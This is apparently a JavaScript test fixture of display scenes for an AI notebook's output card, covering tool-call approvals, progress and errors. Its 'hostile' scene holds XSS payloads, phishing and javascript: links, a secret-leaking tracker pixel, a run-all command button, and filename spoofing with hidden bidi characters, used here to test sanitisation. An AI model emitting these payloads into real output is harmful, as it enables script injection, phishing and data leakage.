// One message for each thing there is to look at.

const CARD = {
  state: "done",
  model: "openai/gpt-5-mini",
  note: null,
  blocks: [],
  usage: null,
  cost: null,
  started: Date.now() / 1000 - 5,
  elapsed: 4.2,
  finish: null,
  format: "markdown",
};

const TOOL = {
  type: "tool",
  call: "call_1",
  name: "delete_rows",
  arguments: "{}",
  state: "proposed",
  signature: null,
  approval: null,
  reason: null,
  error: null,
  result: null,
  seconds: null,
  by: null,
};

const SCHEMA = {
  type: "object",
  properties: {
    table: { type: "string" },
    where: { type: "string" },
    limit: { type: "integer" },
  },
};

const shown = (card, final = false) => ({
  kind: "snapshot",
  final,
  card: { ...CARD, ...card, blocks: card.blocks ?? [] },
});

const waiting = (fields, card = {}) =>
  shown({
    state: "waiting",
    elapsed: 2.4,
    ...card,
    blocks: [
      ...(card.blocks ?? []),
      {
        ...TOOL,
        signature: "delete_rows(table: str, where: str, limit: int = 100)",
        arguments: '{"table":"orders_2024","where":"status = \'void\' AND total = 0","limit":500}',
        state: "pending",
        approval: { id: "a", digest: "d", schema: SCHEMA, expires: 0, queue: 0 },
        ...fields,
      },
    ],
  });

const rows = (done, failed, running, total) =>
  Array.from({ length: total }, (_, index) => {
    if (failed.includes(index)) {
      return "f";
    }
    if (index < done) {
      return "d";
    }
    return index < done + running ? "r" : ".";
  }).join("");

const PROGRESS = {
  kind: "progress",
  final: false,
  description: "Summaries",
  total: 400,
  done: 259,
  failed: 4,
  running: 38,
  waiting: 99,
  cancelled: 0,
  elapsed: 12.5,
  rate: 21,
  left: 6,
  tokens: 81204,
  cost: "0.021",
  projected: "0.0321",
  limit: 38,
  waiting_for: "waiting 2 s, 429",
  state: "running",
  can_retry: false,
  rows: rows(263, [17, 51, 120, 201], 38, 400),
  errors: [
    [17, "APIError: the model returned nothing"],
    [51, "RateLimitError: too many requests; asked to wait 2 s"],
    [120, "ParseError: missing field `title`"],
    [201, "TimeoutError: no answer in 30 s"],
  ],
};

const MARKDOWN = `## What the numbers say

Sales **rose** in _three_ of four regions; see [the method](https://example.org/method) or
https://example.org/data. A figure: ![growth by region](https://images.example.net/growth.png?u=42)

1. North: +12 %
2. South: +4 %
   - with returns: \`+3.1 %\`
3. West: ~~+9 %~~ +8 %

> Returns are counted in the month of the sale.

| region | units | change |
|:--|--:|:-:|
| North | 12,408 | +12 % |
| South | 9,017 | +4 % |

\`\`\`python
def growth(now: float, before: float) -> float:
    """Change since the period before, as a share of it."""
    return (now - before) / before
\`\`\`

That is all.
`;

const HOSTILE = `<script>alert(1)</script> <img src=x onerror=alert(1)> <b style="position:fixed;inset:0">bold</b>

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [bank](https://evil.example/login)
[https://bank.example](https://evil.example) [plain](http://plain.example/a) [local](../files/x)

![pixel](https://tracker.example/p.gif?secret=1) ![here](attachment:x.png)

<button data-commandlinker-command="notebook:run-all">Approve</button> <form action=/><input></form>

user\u202egnp.exe Z\u0351\u0359a\u0310\u0323l\u0321g\u030eo\u0334
`;

export const SCENES = {
  starting: shown({ state: "streaming", elapsed: 0.3 }),
  streaming: shown({
    state: "streaming",
    usage: { input: 90, output: 214, cached: 0, reasoning: 0 },
    elapsed: 1.9,
    blocks: [
      { type: "thought", text: "The user asks about three cities.", seconds: 3 },
      {
        type: "text",
        text: "**Tokyo** is sunny at 72 °F.\n\nFor the two other cities I will look the forecast up, since the readings I have are from this",
      },
    ],
  }),
  "a tool call that waits for a person": waiting({}),
  "one that expires, in a queue, with hidden characters": waiting(
    {
      name: "send_mail\u202e",
      signature: "send_mail(to: str, body: str, options: dict)",
      arguments: JSON.stringify({
        body: "Dear all,\n\nthe report is attached.\u200b\n\nRegards",
        options: {
          retries: 3,
          tags: ["a", "b"],
          nested: { deep: true, words: "a longer value to wrap the line" },
        },
        to: "all@example.org\u202e",
      }),
      approval: { id: "a", digest: "d", schema: null, expires: Date.now() / 1000 + 290, queue: 2 },
    },
    { blocks: [{ type: "text", text: "I will send it now." }] },
  ),
  decided: shown(
    {
      usage: { input: 412, output: 96, cached: 200, reasoning: 0 },
      cost: "0.000312",
      blocks: [
        {
          ...TOOL,
          name: "fetch_weather",
          arguments: '{"city":"Tokyo"}',
          state: "ok",
          by: "person",
          seconds: 0.1,
          result: "72°F and sunny in Tokyo",
        },
        {
          ...TOOL,
          call: "call_2",
          name: "send_mail",
          arguments: '{"to":"all@example.org"}',
          state: "denied",
          by: "person",
          reason: "Not before Monday.",
        },
        {
          ...TOOL,
          call: "call_3",
          name: "lookup",
          arguments: '{"key":"a"}',
          state: "error",
          by: null,
          seconds: 1.3,
          error: "KeyError: 'a'",
        },
        { type: "text", text: "It is 72 °F and sunny in Tokyo. I have not sent the mail." },
      ],
    },
    true,
  ),
  "a map over 400 rows": PROGRESS,
  markdown: shown(
    { blocks: [{ type: "text", text: MARKDOWN }], cost: "1.2", finish: "max_tokens" },
    true,
  ),
  hostile: shown({ blocks: [{ type: "text", text: HOSTILE }] }, true),
  "arguments arriving": shown({
    state: "streaming",
    blocks: [
      {
        ...TOOL,
        name: "write_file",
        arguments: '{"path": "notes.md", "text": "# Notes\\n\\nThe fir',
      },
    ],
  }),
  stopped: shown(
    { state: "stopped", blocks: [{ type: "text", text: "It is 72 °F and sun" }] },
    true,
  ),
  failed: shown(
    {
      state: "failed",
      note: "tried 3 times, 429",
      blocks: [
        {
          type: "error",
          title: "AuthenticationError: the key was refused (401)",
          message: "Set OPENAI_API_KEY to a valid key and run the cell again.",
        },
      ],
    },
    true,
  ),
  "every state of a call": shown({
    state: "streaming",
    usage: { input: 412, output: 96, cached: 0, reasoning: 0 },
    elapsed: 3.1,
    blocks: [
      ["auto_allowed", {}],
      ["approved", { by: "person" }],
      ["edited", { by: "person" }],
      ["running", { by: "person" }],
      ["ok", { by: "rule", seconds: 0.4, result: "72 °F and sunny in Tokyo" }],
      ["error", { by: "person", seconds: 1.3, error: "TimeoutError: no answer in 10 s" }],
      ["denied", { by: "person", reason: "Not before Monday." }],
      ["auto_denied", { by: "policy", reason: "nobody could be asked" }],
      ["expired", { by: "timeout", reason: "the question was left unanswered" }],
      ["cancelled", {}],
    ].map(([state, fields], index) => ({
      ...TOOL,
      call: `call_${index}`,
      name: "fetch_weather",
      arguments: '{"city":"Tokyo","days":3}',
      state,
      ...fields,
    })),
  }),
  done: shown(
    {
      usage: { input: 1412, output: 396, cached: 1024, reasoning: 210 },
      cost: "0.00312",
      blocks: [
        { type: "thought", text: "Three cities; one reading is old.", seconds: 3.4 },
        {
          type: "text",
          text: "**Tokyo** is sunny at 72 °F. For the two others I looked the forecast up.",
        },
      ],
    },
    true,
  ),
  "stopped while it asked": shown(
    {
      state: "stopped",
      blocks: [
        { type: "text", text: "I will delete them now." },
        { ...TOOL, arguments: '{"table":"orders_2024"}', state: "cancelled" },
      ],
    },
    true,
  ),
  "a map that is paused": {
    ...PROGRESS,
    state: "paused",
    total: 40,
    done: 12,
    failed: 1,
    running: 0,
    waiting: 27,
    rows: rows(13, [4], 0, 40),
    errors: [[4, "RateLimitError: too many requests"]],
    waiting_for: null,
  },
  "a gather that was cancelled": {
    ...PROGRESS,
    final: true,
    state: "cancelled",
    total: 40,
    done: 12,
    failed: 0,
    running: 0,
    waiting: 0,
    cancelled: 28,
    rows: `${"d".repeat(12)}${"c".repeat(28)}`,
    errors: [],
    waiting_for: null,
    limit: null,
  },
  "a gather that failed": {
    ...PROGRESS,
    final: true,
    state: "failed",
    total: 40,
    done: 12,
    failed: 1,
    running: 0,
    waiting: 0,
    cancelled: 27,
    rows: `${"d".repeat(12)}f${"c".repeat(27)}`,
    errors: [[12, "APIError: the model returned nothing"]],
    waiting_for: null,
    limit: null,
  },
  "a map that is done": {
    ...PROGRESS,
    final: true,
    description: "",
    state: "done",
    can_retry: true,
    total: 10,
    done: 9,
    failed: 1,
    running: 0,
    waiting: 0,
    rows: "dddfdddddd",
    waiting_for: null,
    limit: null,
    errors: [[3, "APIError: the model returned nothing"]],
  },
};
